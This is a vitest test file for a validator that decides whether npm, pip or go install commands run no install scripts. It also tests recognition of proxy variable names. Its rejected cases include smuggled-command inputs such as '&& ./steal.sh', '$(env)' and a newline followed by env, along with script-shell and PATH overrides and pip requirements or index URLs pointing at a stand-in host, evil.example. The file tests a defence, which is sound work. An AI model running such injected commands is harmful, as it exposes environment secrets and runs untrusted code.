import { describe, expect, it } from 'vitest';
import { isProxy, runsNoScripts, SCRIPTLESS } from '../../src/config/scriptless.ts';

describe('an install that runs no scripts', () => {
  it.each([
    ...SCRIPTLESS.filter((one) => !one.startsWith('pip')),
    'npm ci --ignore-scripts --no-audit --omit=dev',
    'pip install --require-hashes --only-binary=:all: -r requirements.txt',
    'pip install -q --require-hashes --only-binary=:all: -r requirements-dev.txt',
    'go mod download',
  ])('%s', (command) => expect(runsNoScripts(command)).toBe(true));

  it.each([
    'npm ci',
    'npm install --ignore-scripts',
    'npm ci --ignore-scripts && ./steal.sh',
    'npm ci --ignore-scripts; env',
    'npm ci --ignore-scripts\nenv',
    'npm ci --ignore-scripts $(env)',
    'npm ci --ignore-scripts --ignore-scripts=false',
    'npm ci --ignore-scripts --script-shell=./x',
    'npm ci --ignore-scripts --userconfig=x',
    'npm ci --ignore-scripts --prefix ../other',
    './npm ci --ignore-scripts',
    'PATH=. npm ci --ignore-scripts',
    'pnpm install --ignore-scripts --frozen-lockfile',
    'pip install -r requirements.txt',
    // A folder of the repository among them is built, by code of the pull request's; with hashes pip refuses folders.
    'pip install --only-binary=:all: -r requirements.txt',
    'pip install --require-hashes --only-binary=:all: -r https://evil.example/requirements.txt',
    'pip install --require-hashes --only-binary=:all: -r deps.txt',
    'pip install --require-hashes --only-binary=:all: --index-url https://evil.example -r requirements.txt',
    'cargo build',
    'go mod download -x',
    'make',
    '',
  ])('is not: %s', (command) => expect(runsNoScripts(command)).toBe(false));

  it('knows proxies by their names, in capitals or not', () => {
    expect(['HTTPS_PROXY', 'no_proxy', 'NPM_TOKEN'].map(isProxy)).toEqual([true, true, false]);
  });
});
